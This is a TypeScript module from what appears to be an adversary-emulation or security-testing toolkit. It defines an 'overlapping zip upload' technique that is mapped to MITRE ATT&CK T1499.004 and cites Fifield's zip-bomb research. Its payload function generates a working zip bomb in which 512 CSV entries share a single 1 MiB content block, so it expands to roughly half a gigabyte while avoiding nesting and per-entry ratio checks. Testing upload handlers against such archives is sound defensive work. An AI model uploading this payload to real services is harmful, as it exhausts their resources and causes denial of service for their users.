import { rawZip } from '../../../raw-zip.ts';
import { upload } from '../../../upload.ts';

/** One content that every entry claims, so that it expands as often as it is listed. */
export const technique = upload({
  id: 'impact.overlapping-zip-upload',
  title: 'Upload an archive whose entries overlap',
  purpose: 'No nesting and no strange ratio per entry, and half a gigabyte when it is unpacked.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
    {
      title: 'A better zip bomb, David Fifield',
      url: 'https://www.bamsoftware.com/hacks/zipbomb/',
    },
  ],
  contentType: 'application/zip',
  payload: () =>
    rawZip(
      Array.from({ length: 512 }, (_, at) => ({
        name: `sheet-${at}.csv`,
        content: at === 0 ? new Uint8Array(1024 * 1024) : new Uint8Array(),
        ...(at > 0 && { sharesFirst: true as const }),
      })),
    ),
});
